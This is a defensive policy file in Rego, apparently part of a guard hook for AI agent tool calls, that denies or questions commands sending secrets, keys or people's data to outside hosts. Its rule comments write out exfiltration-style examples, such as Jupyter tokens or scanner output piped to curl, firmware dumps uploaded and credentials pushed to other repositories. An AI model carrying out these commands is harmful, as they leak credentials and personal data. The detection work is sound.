# Flow rules (issue 11, class 26, h-flow): a sensitive source reaching an outside sink, whatever
# the channel. Sources: secret-printing commands and their output files, secret-named values,
# files and listings of people; sinks: uploads (hookward-shell `uploads`, which
# programs/sinks.rs extends to MQTT publishers, the Hugging Face Hub CLI, MLflow artifacts and
# Python SDK upload calls), the hosts a command publishes to, another repository's secret
# store, buckets named as handed over, public brokers, removable media, URL query strings,
# warehouse unloads. The upload, host and owner tests are shell.rego's (imported as `sh`).
package hookward.rules.flow

import data.hookward.lib
import data.hookward.rules.shell as sh

ff := object.get(input, "facts", {})

sfacts := object.get(ff, "shell", {})

f_uploads := object.get(sfacts, "uploads", [])

f_commands := object.get(sfacts, "commands", [])

f_prints := object.get(sfacts, "secret_prints", [])

f_exports := object.get(sfacts, "exports", [])

f_paths := object.get(ff, "paths", [])

# An upload that leaves this machine and the organisation's private network. A bucket (s3://,
# gs://, az://…) is a cloud store whatever its name, never a private host.
outside(u) if {
	not sh.local_target(u.target)
	not store_url(u.target)
	h := sh.target_host(u.target)
	h != ""
	not contains(h, "$")
	not sh.private_host(h)
}

outside(u) if store_url(u.target)

store_url(t) if regex.match(`^(?i)(?:s3|s3a|gs|gcs|az|azure|r2|b2|oss|cos)://[^/$]`, t)

# ---------------------------------------------------------------------------------------------
# Secret output piped out.

# Commands whose standard output carries live secrets, by the text of the producing command:
# `jupyter server list` / `jupyter notebook list` print each running server's URL with its
# access token (Jupyter Server docs, "jupyter server list"); trufflehog prints every secret it
# finds with its raw value (trufflehog README, "Raw" in the JSON output); gitleaks prints the
# secret in its findings unless `--redact` (gitleaks README, "--redact").
secret_output_re := [
	`^(?:\S*/)?jupyter(?:-server|-notebook)?\s+(?:server\s+|notebook\s+|lab\s+)?list\b`,
	`^(?:\S*/)?trufflehog\b`,
	`^(?:\S*/)?gitleaks\s+(?:detect|git|dir|protect|stdin)\b`,
]

secret_output(producer) if {
	is_string(producer)
	some re in secret_output_re
	regex.match(re, trim_space(producer))
	not regex.match(`(?:^|\s)--redact\b`, producer)
}

# @rule flow/secret-output-sent deny
# The output of a command that prints live secrets piped into an upload to another host: jupyter server list (each server's URL with its token) | curl -d @- URL, trufflehog git … --json | curl -d @- URL, gitleaks detect without --redact. Running the scanner or listing the servers alone, and loopback or private targets, are not this.
decision contains {"id": "flow/secret-output-sent", "decision": "deny", "reason": reason} if {
	some u in f_uploads
	startswith(sh.upload_source(u), "<piped from ")
	secret_output(object.get(u, "producer", ""))
	outside(u)
	reason := sprintf("the command sends the output of %s, which prints live secrets, to %s (%s)", [u.producer, sh.target_host(u.target), u.evidence])
}

# ---------------------------------------------------------------------------------------------
# A stored secret printed into an argument (captured) and a host that is not its vendor's.

# The hosts a command sends to: its uploads' targets, the registry of an image it pushes
# (docker/podman push IMAGE: the first component of the reference when it names a host,
# else Docker Hub, Docker docs "docker image push"), and the registry `npm publish --registry
# URL` uploads to (npm-publish(1)).
sink_host contains h if {
	some u in f_uploads
	outside(u)
	h := sh.target_host(u.target)
}

sink_host contains h if {
	some c in f_commands
	c.program in {"docker", "podman", "buildah"}
	c.argv[1] == "push"
	some ref in array.slice(c.argv, 2, count(c.argv))
	not startswith(ref, "-")
	h := image_host(ref)
}

sink_host contains h if {
	some c in f_commands
	c.program in {"npm", "pnpm", "yarn"}
	"publish" in c.argv
	some i, w in c.argv
	w == "--registry"
	h := sh.target_host(c.argv[i + 1])
	not sh.private_host(h)
}

sink_host contains h if {
	some c in f_commands
	c.program in {"npm", "pnpm", "yarn"}
	"publish" in c.argv
	some w in c.argv
	startswith(w, "--registry=")
	h := sh.target_host(substring(w, 11, -1))
	not sh.private_host(h)
}

image_host(ref) := h if {
	registry_named(ref)
	h := lower(regex.replace(split(ref, "/")[0], `:[0-9]+$`, ""))
}

image_host(ref) := "docker.io" if not registry_named(ref)

# The image reference starts with a registry host (a first component with a dot, a port or
# `localhost`). No `else` chains in this package: the compiled RVM the hook runs did not reach
# an `else` in one case the interpreter did (shell.rego store_bucket).
registry_named(ref) if {
	count(split(ref, "/")) > 1
	regex.match(`[.:]|^localhost$`, split(ref, "/")[0])
}

# The vendor word of a printed secret: the printing CLI's name (npm config get
# //registry.npmjs.org/:_authToken prints npm's registry token, pnpm's and yarn's the same).
print_vendor(f) := "npm" if f.program in {"npm", "pnpm", "yarn"}

print_vendor(f) := f.program if not f.program in {"npm", "pnpm", "yarn"}

# Prints of a vendor's own credential (its CLI's sign-in token, its configured keys: gh auth
# token, aws configure get …, gcloud auth print-access-token, az account get-access-token,
# heroku auth:token, npm config get …:_authToken; hookward-shell keys.rs EXPORTS and
# config_value_print): the secret is that vendor's. A secret manager's print (vault kv get, op
# read, aws secretsmanager …) may be any service's key and is not judged by host here.
vendor_credential_print(f) if {
	f.program in {"gh", "glab", "gcloud", "heroku", "aws", "az", "npm", "pnpm", "yarn"}
	regex.match(`^(?:auth|configure|config|account|ecr|sts)\b`, f.form)
}

# The vendor's own host: its registered name (shell.rego vendor_host) or one of the domains its
# CLI's tokens are for (shell.rego token_vendor_hosts: run.app, gcr.io, ghcr.io…).
print_vendor_host(f, h) if sh.vendor_host(print_vendor(f), h)

print_vendor_host(f, h) if sh.vendor_domain(h, sh.token_vendor_hosts[f.program])

# @rule flow/secret-print-sent-away deny
# A stored secret printed inside the command (a command substitution: --build-arg K="$(aws configure get aws_secret_access_key)", --//host/:_authToken="$(npm config get //registry.npmjs.org/:_authToken)", -d "{\"token\":\"$(npm config get …)\"}") in a command that sends to a public host that is not the secret's vendor's: an upload's target, a pushed image's registry (image layers and history keep build arguments, Docker docs "docker build --build-arg": "not recommended for secrets"), or the registry a package is published to. The vendor's own hosts (docker login … $(aws ecr get-login-password) && docker push ….amazonaws.com/…; curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://storage.googleapis.com/…) and private hosts are not this.
decision contains {"id": "flow/secret-print-sent-away", "decision": "deny", "reason": reason} if {
	some f in f_prints
	f.captured
	not f.by_shape
	vendor_credential_print(f)
	some h in sink_host
	not print_vendor_host(f, h)
	not sh.private_host(h)
	reason := sprintf("the command prints a stored secret (%s %s) into a command that sends to %s, not its vendor's host (%s)", [f.program, f.form, h, f.evidence])
}

# A secret-named variable baked into an image that is pushed: docker build --build-arg
# HF_TOKEN="$HF_TOKEN" … && docker push REGISTRY/IMAGE (build arguments are kept in the image's
# history, Docker docs "docker build --build-arg"; BuildKit's secret mounts are the documented
# way, `--secret id=x,env=X`).
decision contains {"id": "flow/secret-print-sent-away", "decision": "deny", "reason": reason} if {
	some c in f_commands
	c.program in {"docker", "podman", "buildah"}
	some i, w in c.argv
	w == "--build-arg"
	arg := c.argv[i + 1]
	secret_valued(arg)
	some p in f_commands
	p.program in {"docker", "podman", "buildah"}
	p.argv[1] == "push"
	reason := sprintf("the command bakes a secret into an image's build arguments (%s) and pushes the image (%s)", [arg, p.evidence])
}

# A build argument whose value is a secret-named variable or a command substitution of a
# secret print (`K="$(aws configure get aws_secret_access_key)"`).
secret_valued(arg) if {
	some m in regex.find_all_string_submatch_n(`\$\{?([A-Za-z_][A-Za-z0-9_]*)`, arg, 8)
	secret_var_name(m[1])
}

secret_valued(arg) if {
	contains(arg, "$(")
	count([f | some f in f_prints; f.captured]) > 0
}

# The shell's secret-variable names (hookward-shell exfil.rs secret_name): a part of the name
# (SECRET, TOKEN, PASSWORD, API_KEY, PRIVATE_KEY, ACCESS_KEY, CREDENTIAL…) or a whole word
# (PAT, PSK, PASSPHRASE).
secret_var_name(v) if regex.match(`(?i)SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIAL|SESSION_KEY|AUTH_KEY|DATABASE_URL|_DSN$`, v)

secret_var_name(v) if regex.match(`(?i)(?:^|_)(?:PAT|PSK|PASSPHRASE)(?:_|$)`, v)

# ---------------------------------------------------------------------------------------------
# Files a secret dump wrote, sent.

# @rule flow/secret-dump-sent deny
# A file a secret dump wrote in the same command (hookward-shell sinks.rs SECRET_DUMPS: pkcs11-tool --read-object --type privkey -o F, esptool read_flash … F, the flash that holds the device's stored Wi-Fi credentials and keys) sent to another host: pkcs11-tool … -o /tmp/ca.der && scp /tmp/ca.der x@host:, esptool.py read_flash 0 0x400000 f.bin && curl -F d=@f.bin URL. The dump alone, and loopback targets, are not this.
decision contains {"id": "flow/secret-dump-sent", "decision": "deny", "reason": reason} if {
	some p in f_paths
	p.access == "create"
	startswith(object.get(p, "how", ""), "secret dump ")
	some u in f_uploads
	u.source == p.path
	not sh.local_target(u.target)
	reason := sprintf("the command dumps secret material into %s (%s) and sends it to %s (%s)", [p.path, substring(p.how, 12, -1), u.target, u.evidence])
}

# ---------------------------------------------------------------------------------------------
# A token in a remote's URL.

# @rule flow/token-in-remote-url deny
# A git remote or push URL carrying a secret-named variable as its user or password (git remote add m "https://u:$HF_TOKEN@mirror.example/r" && git push m; git push "https://x:$GITHUB_TOKEN@host/r.git"): git hands the credential to that host at every fetch and push. Denied when the secret belongs to a service served only from its own domains (GITHUB_TOKEN, HF_TOKEN, NPM_TOKEN; shell.rego saas_vendor_words) and the host is not that vendor's; the vendor's own host and private hosts are quiet.
decision contains {"id": "flow/token-in-remote-url", "decision": "deny", "reason": reason} if {
	some c in f_commands
	c.program == "git"
	some w in c.argv
	m := regex.find_all_string_submatch_n(`^[a-zA-Z][a-zA-Z0-9+.-]*://[^@/]*\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?[^@/]*@([^/:]+)`, w, 1)[0]
	v := m[1]
	host := lower(m[2])
	secret_var_name(v)
	not sh.private_host(host)
	vendors := sh.secret_vendors(v)
	some s in vendors
	s in sh.saas_vendor_words
	count({x | some x in vendors; sh.vendor_host(x, host)}) == 0
	reason := sprintf("the command gives the secret variable %s to %s in a git remote's URL, not its vendor's host (%s)", [v, host, c.evidence])
}

# ---------------------------------------------------------------------------------------------
# People's data.

# Words of a file or folder name that say it holds people's data: hookward-facts mcp_action.rs
# PEOPLE_WORDS (the apps' names for their people) and the names data about people is filed
# under (support tickets, PII, e-mail lists, a forge's stargazers).
people_words := {
	"user", "users", "customer", "customers", "member", "members", "subscriber", "subscribers",
	"contact", "contacts", "profile", "profiles", "lead", "leads", "patient", "patients",
	"employee", "employees", "player", "players", "client", "clients", "student", "students",
	"people", "persons", "payroll", "ticket", "tickets", "pii", "email", "emails", "stargazers",
	"phenotypes", "iban",
}

# Extensions of files that are documents, code or media, not rows (user-guide.pdf, users.py).
not_rows_re := `(?i)\.(pdf|md|rst|html?|txt|py|js|ts|tsx|jsx|rs|go|java|rb|php|c|h|cpp|css|svg|png|jpe?g|gif|webp|ico|toml|ya?ml|lock|sh|ipynb)$`

# A path whose name or folder names people (the last two components below the home, so the
# home folder's own name, /home/user, is not read).
people_path(path) if {
	is_string(path)
	not regex.match(not_rows_re, path)
	rows_place(path)
	parts := split(below_home(lower(path)), "/")
	n := count(parts)
	some part in array.slice(parts, max([n - 2, 0]), n)
	part != ""
	some w in regex.split(`[^a-z0-9]+`, part)
	w in people_words
}

# Where rows are kept: a data file anywhere (shell.rego data_file), or a file or folder of the
# project or the temporary folders (an application's own state below the home, such as
# ~/.config/Code/User, is not read by name).
rows_place(path) if sh.data_file(path)

rows_place(path) if {
	some p in f_paths
	p.path == path
	some c in {"project", "temp"}
	c in p.classes
}

below_home(p) := substring(p, count(h) + 1, -1) if {
	h := lower(object.get(ff, "home", ""))
	h != ""
	startswith(p, concat("", [h, "/"]))
}

below_home(p) := p if not in_home(p)

in_home(p) if {
	h := lower(object.get(ff, "home", ""))
	h != ""
	startswith(p, concat("", [h, "/"]))
}

# Hosts that take data for someone else: a bucket named for handing over (a vendor's, a
# partner's, an intake or drop box, a share) or a public address written as a literal.
handover_words := {"vendor", "vendors", "partner", "partners", "external", "thirdparty", "contractor", "contractors", "supplier", "suppliers", "share", "shared", "sharing", "dropbox", "drop", "intake", "inbox", "incoming", "transfer", "exchange", "public"}

handover_host(h) if {
	some w in regex.split(`[^a-z0-9]+`, lower(h))
	w in handover_words
}

handover_host(h) if sh.public_ip_literal(h)

# A target people's data must not reach: for the user's own transfer tools (scp, rsync, ssh,
# object-store clients) a host or bucket named as handed over or a bare public address; for any
# other carrier (HTTP clients, interpreters, the Hub CLI, MQTT, MLflow) any public host.
people_sink(u) if {
	outside(u)
	u.program in sh.own_transfer_programs
	handover_host(sh.target_host(u.target))
}

people_sink(u) if {
	outside(u)
	not u.program in sh.own_transfer_programs
	not authenticated_service(sh.target_host(u.target))
}

# A host the same command presents the user's own credential to, in a header or as the user,
# whose name is the credential's vendor (curl -H "X-Postmark-Server-Token: $POSTMARK_TOKEN"
# https://api.postmarkapp.com/…, -u "$STRIPE_KEY:" https://api.stripe.com/…): the user's account
# with a service that processes the data for them (their mail provider, their CRM), not another
# party. A host given no credential of its own (a CRM "import" endpoint named in the command)
# is not this.
authenticated_service(host) if {
	some h in f_uploads
	startswith(sh.upload_source(h), "<sent header secret ")
	sh.target_host(h.target) == host
	v := sh.sent_secret(h)
	some w in sh.secret_vendors(v)
	sh.vendor_host(w, host)
}

# @rule flow/personal-data-sent deny
# A file or folder whose name says it holds people's data (customers.csv, user_profile.parquet, tickets_with_pii.parquet, logs/customer-tickets/*.log, data/raw/customers) sent to another party: by an HTTP client, an interpreter, the Hub CLI (hf upload), MQTT or MLflow to any public host; by scp/rsync/ssh or an object-store client to a bare public address or a bucket named for handing over (vendor-, partner-, -share, intake, dropbox). Documents and code (user-guide.pdf, users.py), private and loopback hosts, the user's own servers and buckets (scp customers.csv db.acme.com:, gsutil cp users.parquet gs://acme-analytics/) and a service the command authenticates to with its own vendor's credential (a mail provider given its token) are not this.
decision contains {"id": "flow/personal-data-sent", "decision": "deny", "reason": reason} if {
	some u in f_uploads
	src := sh.upload_source(u)
	not startswith(src, "<")
	people_path(src)
	people_sink(u)
	reason := sprintf("the command sends %s, whose name says it holds people's data, to %s (%s)", [src, sh.target_host(u.target), u.evidence])
}

# A listing of people's e-mail addresses from a forge's API (gh api …commits --jq
# '.[].commit.author.email', gh api users/X --jq '.email') or a key-value store's user records
# (redis-cli --scan --pattern 'user:*' … HGETALL) sent on, piped or through a file the command
# filled.
decision contains {"id": "flow/personal-data-sent", "decision": "deny", "reason": reason} if {
	some c in f_commands
	lists_people(c)
	some u in f_uploads
	filled_or_piped(u)
	outside(u)
	reason := sprintf("the command lists people's data (%s) and sends it to %s (%s)", [c.evidence, sh.target_host(u.target), u.evidence])
}

filled_or_piped(u) if startswith(sh.upload_source(u), "<piped from ")

filled_or_piped(u) if {
	p := object.get(u, "producer", null)
	is_string(p)
	p != ""
}

# A forge API call selecting e-mail addresses (the API's `email` fields: GitHub REST "Get a
# user", commit `author.email`).
lists_people(c) if {
	c.program in {"gh", "glab"}
	"api" in c.argv
	some w in c.argv
	regex.match(`(?i)\.e?mail\b|\bemail\b`, w)
}

# Redis: a scan or key pattern of user records (redis-cli --scan --pattern 'user:*', KEYS
# customer:*), the hash of each fetched.
lists_people(c) if {
	c.program in {"redis-cli", "keydb-cli", "valkey-cli"}
	some w in c.argv
	regex.match(`(?i)^(?:users?|customers?|members?|accounts?|profiles?|sessions?)[:_*]`, w)
}

# @rule flow/handover-store deny
# Production or personal data copied into a bucket that shell/store-export already judges not the source's owner's (its name shares no word with the source's) and whose name says it is for handing over (vendor-intake-…, partner-share, …-dropbox, external-…): bq extract 'proj:crm.customers' gs://vendor-intake-4471/…. A bucket merely named otherwise is asked about (shell/store-export).
decision contains {"id": "flow/handover-store", "decision": "deny", "reason": reason} if {
	some e in f_exports
	e.kind == "unowned_store"
	bucket := sh.target_host(e.target)
	handover_host(bucket)
	reason := sprintf("the command copies %s into %s, a bucket named for handing data over (%s)", [e.source, bucket, e.evidence])
}

# ---------------------------------------------------------------------------------------------
# Public brokers.

# Public test MQTT brokers: anyone may connect and subscribe to any topic, `#` included
# (HiveMQ "Public MQTT Broker", test.mosquitto.org's own page, EMQX "Free Public MQTT Broker",
# Eclipse "mqtt.eclipseprojects.io"): a message published there is readable by the world.
public_brokers := {"broker.hivemq.com", "test.mosquitto.org", "broker.emqx.io", "mqtt.eclipseprojects.io", "public.mqtthq.com", "mqtt.flespi.io", "broker.mqttdashboard.com", "test.mosca.io", "mqtt.fluux.io"}

# @rule flow/public-broker-upload deny
# A file, a secret or a command's output published to a public MQTT test broker (broker.hivemq.com, test.mosquitto.org, broker.emqx.io, mqtt.eclipseprojects.io): anyone can subscribe to every topic there, so the data is published to the world, as on a paste site (shell/drop-site-upload). Fixed text and the team's own broker are not this.
decision contains {"id": "flow/public-broker-upload", "decision": "deny", "reason": reason} if {
	some u in f_uploads
	host := sh.target_host(u.target)
	host in public_brokers
	sh.upload_source(u) != ""
	reason := sprintf("the command publishes %s to %s, a public broker anyone can subscribe to (%s)", [sh.upload_what(u), host, u.evidence])
}

# ---------------------------------------------------------------------------------------------
# Removable media.

# Mount points of removable media: udisks2 mounts under /media/$USER (Debian, Ubuntu) or
# /run/media/$USER (Fedora, Arch); macOS under /Volumes.
removable_re := `^/(?:media|run/media|Volumes)/`

# @rule flow/key-to-removable-media deny
# A private key, credential store or key file copied onto removable media (cp keys/signing_key.pem /media/$USER/USB/, rsync ~/.ssh /run/media/me/stick/, /Volumes/…): a key on a stick leaves the machine's protection and travels with the stick. Other files copied there are not this.
decision contains {"id": "flow/key-to-removable-media", "decision": "deny", "reason": reason} if {
	some r in lib.read_paths
	some cls in {"credential", "secret_file", "env_file"}
	cls in r.classes
	some w in lib.changed_paths
	w.access in {"create", "write"}
	regex.match(removable_re, w.path)
	reason := sprintf("the command copies %s onto removable media (%s)", [r.path, w.path])
}

# ---------------------------------------------------------------------------------------------
# Another repository's secret store, plaintext variables.

# The repository a gh secret/variable command names (`--repo|-R OWNER/REPO`).
gh_store_repos(c) := {r | some i, w in c.argv; w in {"--repo", "-R"}; r := c.argv[i + 1]} | {r | some w in c.argv; startswith(w, "--repo="); r := substring(w, 7, -1)}

gh_store(c, kind) if {
	c.program == "gh"
	c.argv[1] == kind
	c.argv[2] == "set"
}

# What a gh secret set stores: a key or credential file redirected or given with -f/--env-file,
# a stored secret printed in the command.
stored_credentials := {r.path | some r in lib.read_paths; some cls in {"credential", "secret_file", "env_file"}; cls in r.classes; not lib.identity_use(r)} | {sprintf("%s %s", [f.program, f.form]) | some f in f_prints}

# @rule flow/secret-to-other-repo deny
# A key, a credential store or a stored secret printed in the command (gh auth token | gh secret set X --repo O/R; gh secret set SIGNING_KEY --repo O/R < cosign.key) set as a secret of a repository the command names: whoever controls that repository's workflows now holds the user's credential. Setting a secret of the current repository (no --repo) is everyday CI set-up and stays quiet; a secret variable's value given to a named repository asks (flow/secret-to-named-repo).
decision contains {"id": "flow/secret-to-other-repo", "decision": "deny", "reason": reason} if {
	some c in f_commands
	gh_store(c, "secret")
	some repo in gh_store_repos(c)
	some what in stored_credentials
	reason := sprintf("the command stores %s as a secret of the repository %s (%s)", [what, repo, c.evidence])
}

# @rule flow/secret-to-named-repo ask
# A secret-named variable set as a secret of a repository named with --repo (gh secret set HF_TOKEN --body "$HF_TOKEN" --repo someone/fork): the token goes to that repository's workflows, whose owner cannot be told from here. Without --repo it is the current repository and quiet.
decision contains {"id": "flow/secret-to-named-repo", "decision": "ask", "reason": reason} if {
	some c in f_commands
	gh_store(c, "secret")
	some repo in gh_store_repos(c)
	count(stored_credentials) == 0
	some w in c.argv
	secret_valued(w)
	reason := sprintf("the command stores a secret variable as a secret of the repository %s (%s)", [repo, c.evidence])
}

# @rule flow/secret-in-variable ask
# A secret stored as a plain repository or organisation variable (gh variable set CARGO_REGISTRY_TOKEN --body "$CARGO_REGISTRY_TOKEN", gh variable set WIFI_PSK --body "$(ssh pi 'grep psk= …')"): GitHub stores variables as plain text, shown to anyone who can read the repository's settings and printed in logs ("Store information in variables": use secrets for sensitive values). A variable whose name and value are no secret's is quiet.
decision contains {"id": "flow/secret-in-variable", "decision": "ask", "reason": reason} if {
	some c in f_commands
	gh_store(c, "variable")
	variable_secret(c)
	reason := sprintf("the command stores a secret as a plain-text variable (%s)", [c.evidence])
}

variable_secret(c) if secret_var_name(c.argv[3])

variable_secret(c) if {
	some w in array.slice(c.argv, 3, count(c.argv))
	secret_valued(w)
}

# ---------------------------------------------------------------------------------------------
# Personal data in a URL.

# E-mail addresses and international phone numbers in a URL's query, percent-decoded.
url_people(url) := items if {
	parts := split(url, "?")
	count(parts) > 1
	q := pct_decode(concat("?", array.slice(parts, 1, count(parts))))
	emails := {m | some m in regex.find_n(`[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}`, q, 16)}
	phones := {m | some m in regex.find_n(`\+[0-9][0-9 ().-]{7,18}[0-9]`, q, 16)}
	items := emails | phones
}

# The characters of addresses and numbers percent-encoded (RFC 3986 §2.1; `+` is a space in
# form encoding, HTML "application/x-www-form-urlencoded"), decoded; the rest left as written.
pct_decode(q) := d if {
	plus := replace(q, "+", " ")
	d := replace(replace(replace(replace(replace(replace(replace(plus, "%40", "@"), "%2B", "+"), "%2b", "+"), "%2C", ","), "%2c", ","), "%20", " "), "%3B", ";")
}

# @rule flow/personal-data-in-url deny
# Two or more e-mail addresses or international phone numbers in the query string of a URL fetched from a public host (WebFetch https://checker.example/scan?sample=ana%40example.com%2C%2B34612345678, curl "https://x.example/?e=a@b.com,c@d.com"): the server, its logs and every proxy between keep the query. One address (a sign-in or a lookup) and private hosts are not this.
decision contains {"id": "flow/personal-data-in-url", "decision": "deny", "reason": reason} if {
	some n in object.get(ff, "net", [])
	url := object.get(n, "url", "")
	is_string(url)
	host := lower(object.get(n, "host", ""))
	not sh.private_host(host)
	not sh.local_target(url)
	items := url_people(url)
	count(items) >= 2
	reason := sprintf("the URL sends %d e-mail addresses or phone numbers to %s in its query", [count(items), host])
}

# ---------------------------------------------------------------------------------------------
# Warehouse unloads with inline credentials.

# The text of a shell command or an MCP tool's arguments (a query tool's SQL).
call_text := t if {
	t := object.get(input.event.tool, "command", null)
	is_string(t)
}

call_text := t if {
	not is_string(object.get(input.event.tool, "command", null))
	input.event.tool.kind == "mcp"
	t := json.marshal(object.get(input.event.tool, "input", {}))
}

# Snowflake `COPY INTO 's3://…'|'gcs://…'|'azure://…' … CREDENTIALS=(…)` (Snowflake docs, "COPY
# INTO <location>": an external location given by URL with credentials inline, instead of a
# named stage or storage integration the account's admins configured) and Redshift `UNLOAD (…)
# TO 's3://…' … CREDENTIALS|ACCESS_KEY_ID` (Redshift docs, "UNLOAD").
unload_re := `(?is)\b(?:COPY\s+INTO|UNLOAD\s*\(.*?\)\s*TO)\s*'((?:s3|s3a|gcs|gs|azure|wasbs?|abfss?)://[^']+)'.*\b(?:CREDENTIALS\s*=?\s*\(?|ACCESS_KEY_ID\b|AZURE_SAS_TOKEN|AWS_KEY_ID)`

# @rule flow/warehouse-unload deny
# A warehouse unload into a cloud location given by URL with credentials written inline (Snowflake COPY INTO 's3://…' FROM t CREDENTIALS=(AWS_KEY_ID=… AWS_SECRET_KEY=…), 'azure://…' CREDENTIALS=(AZURE_SAS_TOKEN=…); Redshift UNLOAD (…) TO 's3://…' ACCESS_KEY_ID …), by a SQL client or an MCP query tool: the rows go to a bucket whose keys were brought into the command, outside the stages and storage integrations the account's admins set up. Unloads to a named stage (@stage) or through a storage integration are not this.
decision contains {"id": "flow/warehouse-unload", "decision": "deny", "reason": reason} if {
	input.event.kind == "PreToolUse"
	t := call_text
	m := regex.find_all_string_submatch_n(unload_re, t, 1)[0]
	reason := sprintf("the query unloads rows into %s with credentials written into it, outside the account's configured stages", [m[1]])
}

# ---------------------------------------------------------------------------------------------
# rclone remotes defined in the command.

# @rule flow/inline-remote-upload deny
# rclone copying local data to a remote whose configuration is written into the command (--config <(printf '[r]\ntype = sftp\nhost = 77.91.78.12 …'), a connection string :sftp,host=…:) whose host is a bare public address: the remote is not one the user configured, its address and password come with the command, and a bare public address is where collection servers sit (shell/upload-to-address). Remotes from the user's rclone.conf and named hosts are not this.
decision contains {"id": "flow/inline-remote-upload", "decision": "deny", "reason": reason} if {
	some u in f_uploads
	u.program == "rclone"
	inline_rclone(call_text)
	m := regex.find_all_string_submatch_n(`(?i)host\s*=\s*([0-9.]+)`, call_text, 1)[0]
	host := m[1]
	sh.public_ip_literal(host)
	reason := sprintf("the command copies data to %s, a bare public address of a remote configured inside the command (%s)", [host, u.evidence])
}

inline_rclone(t) if regex.match(`--config[= ]+<\(|--config[= ]+/dev/(?:stdin|fd/)`, t)

inline_rclone(t) if regex.match(`\s:(?:sftp|ftp|webdav|s3|smb),`, t)

# ---------------------------------------------------------------------------------------------
# Keys committed and pushed.

# A file named as a private key: `*.key`, `*.p12`, `*.pfx`, `*.jks`, `*.keystore`, ssh's
# `id_rsa`/`id_ed25519`/`id_ecdsa`/`id_dsa`, and `*.pem` unless the name says certificate or
# public part (cert, crt, ca, chain, fullchain, bundle, pub, public).
key_named(w) if {
	name := lower(regex.replace(w, `^.*/`, ""))
	regex.match(`(?:\.key|\.p12|\.pfx|\.jks|\.keystore|^id_(?:rsa|ed25519|ecdsa|dsa))$`, name)
}

key_named(w) if {
	name := lower(regex.replace(w, `^.*/`, ""))
	endswith(name, ".pem")
	not regex.match(`cert|crt|(?:^|[^a-z])ca(?:[^a-z]|$)|chain|bundle|pub`, name)
}

# @rule flow/key-pushed deny
# A private key staged and pushed in the same command (git add -f keys/signing-prod.pem && git commit … && git push): the key is in the remote's history for everyone who can clone it, and removing it later does not take it back. A certificate or public key (ca.pem, cert.pem, id_ed25519.pub) and a commit without a push are not this.
decision contains {"id": "flow/key-pushed", "decision": "deny", "reason": reason} if {
	some c in f_commands
	c.program == "git"
	some i, w in c.argv
	w == "add"
	some f in array.slice(c.argv, i + 1, count(c.argv))
	not startswith(f, "-")
	key_named(f)
	some u in f_uploads
	u.program == "git"
	not sh.local_target(u.target)
	reason := sprintf("the command commits the private key %s and pushes it to %s (%s)", [f, u.target, c.evidence])
}

# ---------------------------------------------------------------------------------------------
# A data remote added and pushed to in one command.

# @rule flow/new-data-remote ask
# DVC pushing the project's data to a remote added in the same command (dvc remote add -d backup s3://somewhere/x && dvc push -r backup; DVC docs "dvc remote add", "dvc push"): the datasets leave for a store nobody configured before, as shell/push-new-remote asks for code. Pushing to the remotes already in .dvc/config is not this.
decision contains {"id": "flow/new-data-remote", "decision": "ask", "reason": reason} if {
	some c in f_commands
	c.program == "dvc"
	c.argv[1] == "remote"
	c.argv[2] == "add"
	ops := [w | some w in array.slice(c.argv, 3, count(c.argv)); not startswith(w, "-")]
	count(ops) >= 2
	some p in f_commands
	p.program == "dvc"
	p.argv[1] == "push"
	reason := sprintf("the command pushes the project's data to %s, a remote added in the same command (%s)", [ops[1], c.evidence])
}

# ---------------------------------------------------------------------------------------------
# Project data sent to an outside party (issue 11 item 11, h-dataout29).

# What kind of data a file is, by its format: a table, database or dump (shell.rego
# data_file: .csv, .parquet, .jsonl, .sql, .db, .xlsx …), an office or PDF document (ISO
# 32000 PDF; ECMA-376 Office Open XML .docx/.pptx; OASIS OpenDocument .odt/.ods/.odp; RTF;
# Apple iWork), a mailbox or message (RFC 5322 .eml, Outlook .msg/.pst/.ost, mbox(5), vCard
# RFC 6350 .vcf), or an archive (tar(5), ZIP APPNOTE, 7z, RAR, Access .mdb/.accdb). Tables
# are shell/data-upload's when an HTTP client sends them.
document_extensions := {
	".pdf", ".doc", ".docx", ".odt", ".rtf", ".pages", ".ppt", ".pptx", ".odp", ".ods", ".numbers",
	".key", ".epub",
}

mail_extensions := {".eml", ".msg", ".mbox", ".pst", ".ost", ".vcf", ".mbx"}

archive_extensions := {
	".zip", ".7z", ".rar", ".tar", ".tgz", ".tar.gz", ".tar.xz", ".tar.bz2", ".tar.zst", ".mdb", ".accdb",
}

data_kind(path) := "table" if sh.data_file(path)

data_kind(path) := "document" if {
	not sh.data_file(path)
	name_ends(path, document_extensions)
}

data_kind(path) := "mail" if name_ends(path, mail_extensions)

data_kind(path) := "archive" if {
	not sh.data_file(path)
	name_ends(path, archive_extensions)
	not build_archive(path)
}

# An archive named as a build's output (dist.tar, build-2.1.tgz, release.zip, site.tar.gz):
# what a deploy copies to the team's own server, not records (scp dist.tar deploy@203.0.113.7:/srv/).
build_archive_words := {"dist", "build", "release", "bundle", "artifact", "artifacts", "site", "public", "pkg", "deploy", "app"}

build_archive(path) if {
	parts := split(path, "/")
	name := lower(parts[count(parts) - 1])
	some w in regex.split(`[^a-z0-9]+`, name)
	w in build_archive_words
}

# A folder sent whole (read recursively by the command) whose own name or its parent's says it
# keeps records: data, datasets, archive, records, exports, dumps, backups, notes, documents,
# mail, evidence, interviews, transcripts, intake, or a confidential word (below).
data_kind(path) := "folder" if {
	some p in f_paths
	p.path == path
	p.recursive
	some c in {"project", "temp"}
	c in p.classes
	some w in last_words(path, 2)
	record_folder_word(w)
}

record_folder_words := {
	"data", "dataset", "datasets", "archive", "archives", "records", "exports", "export", "dumps",
	"dump", "backups", "backup", "notes", "documents", "mail", "mailbox", "inbox", "evidence",
	"interviews", "transcripts", "intake",
}

record_folder_word(w) if w in record_folder_words

record_folder_word(w) if {
	w in confidential_words
	not w in {"source", "sources"}
}

name_ends(path, exts) if {
	name := lower(regex.replace(path, `^.*/`, ""))
	some ext in exts
	endswith(name, ext)
}

# The words of the last n components of a path below the home or the project (the home's own
# name, /home/user, is not read).
last_words(path, n) := {w |
	parts := split(below_home(lower(path)), "/")
	k := count(parts)
	some part in array.slice(parts, max([k - n, 0]), k)
	some w in regex.split(`[^a-z0-9]+`, part)
	w != ""
}

# Words of a file or folder name that say it holds confidential material or records of people
# (journalism's and legal work's names for what must not leave: unredacted, leaks, sources,
